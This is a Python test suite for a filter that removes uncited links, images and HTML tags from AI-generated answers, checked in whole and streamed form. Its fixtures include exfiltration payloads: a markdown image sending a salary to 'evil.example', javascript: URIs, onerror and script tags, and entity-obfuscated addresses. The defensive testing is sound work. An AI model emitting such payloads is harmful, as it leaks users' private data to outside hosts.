"""Addresses in answers: what leaves, what is taken out, and that a stream shows what the whole answer shows."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generation.links import REMOVED, LinkCheck, NoImages, title_alone
from generation.output import Chain
from generation.prompt import PromptSource

SOURCE = PromptSource(
    "S1",
    "travel.md",
    "Travel",
    "Book at https://travel.example/book?a=1&b=2 or see https://travel.example/faq. Write to desk@travel.example. "
    "Also [the form](https://travel.example/form(1)) and www.travel.example/help, or 见https://travel.example/zh。再说 "
    "<https://travel.example/auto> <a href='https://travel.example/tag'>.",
)
OTHER = PromptSource("S2", "other.md", "Other", "The portal is https://portal.example/in and nothing else.")
IMAGE = "![x](https://evil.example/log?d=The_salary_is_90000)"


def whole(text: str, *sources: PromptSource) -> str:
    check = LinkCheck(sources or (SOURCE, OTHER))
    return check.feed(text) + check.flush()


@pytest.mark.parametrize(
    "text",
    [
        "Book at https://travel.example/book?a=1&b=2 [S1].",
        "Book at https://travel.example/book?a=1&amp;b=2 [S1].",
        "See https://travel.example/faq. [S1]",
        "See [S1]: https://travel.example/faq.",
        "See (https://travel.example/faq), please [S1, S2].",
        "**https://travel.example/faq** [S1]",
        "Use [the form](https://travel.example/form(1)) [S1].",
        "Use [the form](https://travel.example/faq), then wait [S1].",
        "Write to desk@travel.example [S1].",
        "Ask www.travel.example/help [S1].",
        "请见https://travel.example/zh [S1]。",
        "See <https://travel.example/auto> [S1].",
        "The portal is https://portal.example/in [S2].",
    ],
)
def test_an_address_that_stands_in_a_cited_source_leaves_as_it_is(text: str) -> None:
    assert whole(text) == text


def test_text_may_follow_an_address_and_does_not_become_part_of_it() -> None:
    assert whole("请见https://travel.example/zh。再说 [S1]") == "请见https://travel.example/zh。再说 [S1]", "as in S1"
    assert whole("请见https://travel.example/faq。秘密 [S1]") == "请见https://travel.example/faq 。秘密 [S1]"
    assert whole("See https://travel.example/faq[S1].") == "See https://travel.example/faq [S1]."


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (IMAGE, f"! [x] {REMOVED}"),
        (f"{IMAGE} [S1]", f"! [x] {REMOVED} [S1]"),
        ("[click](https://evil.example/a b c)", f"[click] {REMOVED} b c)"),
        ("See https://travel.example/faq?d=secret [S1]", f"See {REMOVED} [S1]"),
        ("See https://travel.example/fa [S1]", f"See {REMOVED} [S1]"),
        ("See https://travel.example/faq and no mark", f"See {REMOVED} and no mark"),
        ("See https://travel.example/faq [S2]", f"See {REMOVED} [S2]"),
        ("See https://travel.example/faq\n[S1]", f"See {REMOVED}\n[S1]"),
        ("HTTPS://EVIL.EXAMPLE/x", REMOVED),
        ("http:evil.example/x", REMOVED),
        ("javascript:alert(1)", f"{REMOVED})"),
        ("data:text/html,hi", REMOVED),
        ("//evil.example/x", REMOVED),
        (r"\\evil.example\share", None),
        ("evil.example/x?d=1", REMOVED),
        ("secret.evil.com", REMOVED),
        ("SECRET.EVIL.COM", REMOVED),
        ("www.evil.example", REMOVED),
        ("1.2.3.4:80/x", REMOVED),
        ("secret@evil.example", REMOVED),
        ("<img src=x onerror=go>", REMOVED),
        ("<img src='https://evil.example/x'>", REMOVED),
        ("<https://evil.example/x>", REMOVED),
        ("<https://evil.example/x|click>", REMOVED),
        ("<img src=\"https://evil.example/?", None),
        ("[x](&#104;ttps://evil.example/x)", f"[x] {REMOVED}"),
        ("&#104;ttps&#58;//evil.example/x", None),
        ("[r]: https://evil.example/x", f"[r]: {REMOVED}"),
        ("[x](<https://evil.example/x>)", f"[x]({REMOVED})"),
        ("详见https://evil.example/秘密。谢谢", None),
        ("https://travel.example/faq)&#104;ttps&#58;&#47;&#47;evil&#46;example/ [S1]", None),
        ("&#104;ttps&#58;&#47;&#47;evil&#46;example&#47;[x](https://travel.example/faq) [S1]", None),
        ("[x](u)&#104;ttps&#58;&#47;&#47;evil&#46;example&#47;", None),
        ("https\u200b://evil.example/x", None),
        ("https://travel.example/faq\u00a0secret [S1]", "https://travel.example/faq \u00a0secret [S1]"),
        ("x" * 5_000 + " y", f"{REMOVED} y"),
        ("https://evil.example/" + "x" * 5_000 + " y", f"{REMOVED} y"),
    ],
)  # fmt: skip
def test_any_other_address_is_taken_out(text: str, left: str | None) -> None:
    found = whole(text)
    assert REMOVED in found or "faq \u00a0" in found
    assert "evil.example/" not in found.lower()
    if left is not None:
        assert found == left


@pytest.mark.parametrize(
    "text",
    [
        "The fee is 12.5 % (see section 3.4.5), i.e. about 1,000 euro and/or more; at 10:30, e.g. for Node.js.",
        "In [S1]: three months. See [S1](below), a < b and c > d, <b>bold</b>, x<y.",
        "Version 1.2.3 of notice.md; key: value; note:this; 3//4; C:\\temp; a:b; U.S.A./N.V.; km/h; Art.5/6",
        "合同期限为三个月。详见第3.2条，费用1.5万元（含税）；电话010-12345678。",
        "`code` *emphasis* _x_ ~y~ | a | b |\n|---|---|\n\n# Title\n- item [S1][S2]",
        "",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert whole(text) == text


def test_an_image_is_no_longer_one_wherever_its_address_stands() -> None:
    assert (
        whole("See ![the form](https://travel.example/faq) [S1]") == "See ! [the form](https://travel.example/faq) [S1]"
    )
    assert (
        whole("![x][r] [S1]\n\n[r]: https://travel.example/faq") == "! [x][r] [S1]\n\n[r]: https://travel.example/faq"
    )
    assert whole("Great![S1] ![") == "Great! [S1] ! ["


@pytest.mark.parametrize(
    "text",
    [
        '<img alt="<" src="/\n/evil.\ncom/secret">',
        '<img alt="<" src="/&Tab;/evil.&Tab;com/secret">',
        '<b <  style="background:url(/\n/evil.\ncom/secret)">',
        '<img\n\nsrc="/\n/evil.\ncom/secret">',
        f'<img {"x " * 260} src="/\n/evil.\ncom/secret">',
        '<img src="/\n/evil.\ncom/secret"',
        "<script <x>location = '/' + '/evil.' + 'com'</script <x>",
        "<script\n\n>location = '/' + '/evil.' + 'com'",
        "x<y <img src=x>",
    ],
)
def test_no_tag_is_hidden_by_what_stands_in_it(text: str) -> None:
    found = whole(text)
    assert not re.search(r"<(?:img|script|/script|b <)", found), "no tag with anything in it"
    assert whole(found) == found


@pytest.mark.parametrize(
    "text",
    [
        "A Map<String, List<Integer>> m; if a<b, then <b>bold</b> and x<y",
        "a <b c> d, <br/> and </b>, <T: Trait>, Vec<std::string>",
    ],
)
def test_a_sign_that_begins_no_dangerous_tag_stays(text: str) -> None:
    assert whole(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://travel.example/faq?!;:,!;;::) [S1]",
        "[x](https://travel.example/faq;) [S1]",
        "<https://travel.example/auto!;:> [S1]",
        "https://travel.example/faq!;:,!;;:: [S1]",
        "[x](https://travel.example/&#102;a&#0000113;) [S1]",
        "https://travel.example/&#102;aq [S1]",
        "https://travel.example/book?a=1&#38;b=2 [S1]",
    ],
)
def test_nothing_is_carried_out_by_how_a_known_address_is_written(text: str) -> None:
    assert REMOVED in whole(text)


@pytest.mark.parametrize("text", ["https://travel.example/faq)** [S1]", "https://travel.example/faq... [S1]"])
def test_a_few_signs_may_stand_behind_an_address(text: str) -> None:
    assert whole(text) == text
    signs = text.split("faq")[1].split(" ")[0]
    more = whole(text.replace(signs, f"{signs}!!"))
    assert REMOVED in more or f"faq{signs}" not in more


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("[x][r]\n\n[r]: facetime:secret", f"[x][r]\n\n[r]: {REMOVED}"),
        ("[r]:facetime:secret", f"[r]:{REMOVED}"),
        ("<facetime:secret>", REMOVED),
        ("[x](<face-time:se cret>)", f"[x]({REMOVED})"),
        ("[S1]: three months, note:this, 10:30", "[S1]: three months, note:this, 10:30"),
    ],
)
def test_any_scheme_counts_where_markdown_expects_an_address(text: str, left: str) -> None:
    assert whole(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "!<img src=x>(https://travel.example/faq) [S1]",
        "!evil.com[x] [S1]\n\n[x]: https://travel.example/faq",
        "!<img src=x> [S1]\n\n[link removed]: https://travel.example/faq",
    ],
)
@pytest.mark.parametrize("size", [1, 4, 1_000])
def test_what_was_taken_out_is_no_image(text: str, size: int) -> None:
    chain = Chain([LinkCheck((SOURCE,)), NoImages()])
    found = "".join(chain.feed(text[at : at + size]) for at in range(0, len(text), size)) + chain.flush()
    assert f"! {REMOVED}" in found
    assert "![" not in found
    assert chain.detail == {"links_removed": 1}


def test_what_was_taken_out_is_counted() -> None:
    check = LinkCheck((SOURCE,))
    assert (check.detail, check.warnings) == ({}, ())
    check.feed(f"{IMAGE} and {IMAGE} ")
    assert (check.detail, check.warnings) == ({"links_removed": 2}, ("links-removed",))


def test_a_stream_goes_on_while_nothing_looks_like_an_address() -> None:
    check = LinkCheck((SOURCE,))
    assert check.feed("The notice per") == "The notice "
    assert check.feed("iod is three months. ") == "period is three months. "
    assert check.feed("合同期限为三个月") == "合同期限为三个月"
    assert check.feed(" https://travel.example/faq") == " "
    assert check.feed(" says so") == ""
    assert check.feed(" [S1] ") == "https://travel.example/faq says so [S1] "
    assert check.flush() == ""


PIECES = (
    "https://travel.example/faq", "https://evil.example/x", "evil.example/y", "secret.evil.com", "[S1]", "[S2", "]",
    " ", "\n", "\n\n", "<", ">", "img src=x", '"', "=", "!", "[x]: ", "foo:", ";:.!", "script",
    "a", ".", "/", ":", "](", ")", "http", "s:", "//", "中", "。", "&#104;", "ttps://e.xy/",
    "@evil.com", "www.", "<b>", "x" * 300, "\u00a0", "com", "\\", "evil",
)  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=18), st.lists(st.integers(1, 40), max_size=20))
def test_pieces_of_any_length_give_the_same_text(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    check, said, at = LinkCheck((SOURCE, OTHER)), "", 0
    for cut in cuts:
        said += check.feed(text[at : at + cut])
        at += cut
    said += check.feed(text[at:]) + check.flush()
    assert said == whole(text)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_no_foreign_address_leaves_whatever_stands_around_it(pieces: list[str]) -> None:
    found = whole("".join(pieces))
    assert "evil.example/" not in found
    assert "https://evil" not in found


@pytest.mark.parametrize("text", ["a." * 4_000, "a@" * 4_000, "](" * 4_000, "<" * 4_000, "//" * 4_000, "&#" * 4_000])
def test_no_text_takes_long(text: str) -> None:
    check, began = LinkCheck((SOURCE,)), time.process_time()
    for at in range(0, len(text), 7):
        check.feed(text[at : at + 7])
    check.flush()
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "title",
    [
        "report.pdf#attachment-1/x.com", "a.zip#member/docs/x.com/y.html", "archive.zip", "run.sh", "notes.md",
        "hr/pay.md",
        "Leave policy 2024", "Q&A report.pdf#attachment-2/img.png", "mail.eml#attachment-1/mail.eml#attachment-1/a.io",
    ],
)  # fmt: skip
def test_what_a_file_is_called_stays_whole_where_nothing_is_cited(title: str) -> None:
    assert title_alone(title) == title


@pytest.mark.parametrize(
    ("title", "said"),
    [
        ("see evil.com/login now", "see [link removed] now"), ("evil.com", "[link removed]"),
        ("report.pdf and evil.museum/x", "report.pdf and [link removed]"), ("evil.zip/x?q=1", "[link removed]"),
        ("https://evil.example/x", "[link removed]"), ("file.pdf#a/https://evil.com", "[link removed]"),
        ("www.evil.com", "[link removed]"), ("//evil.com/x a.zip#x", "[link removed] a.zip#x"),
        ("ana@evil.com", "[link removed]"), ("a.pdf [x](https://evil.com)", "a.pdf [x] [link removed]"),
        ("a.pdf#b <a href=//e.com>", "[link removed] [link removed]"), ("a&#46;com/x", "[link removed]"),
        ("1.2.3.4/x", "[link removed]"), ("a.pdf#x [evil]:https://evil.com", "a.pdf#x [evil]:[link removed]"),
    ],
)  # fmt: skip
def test_addresses_in_titles_go_where_nothing_is_cited(title: str, said: str) -> None:
    assert title_alone(title) == said
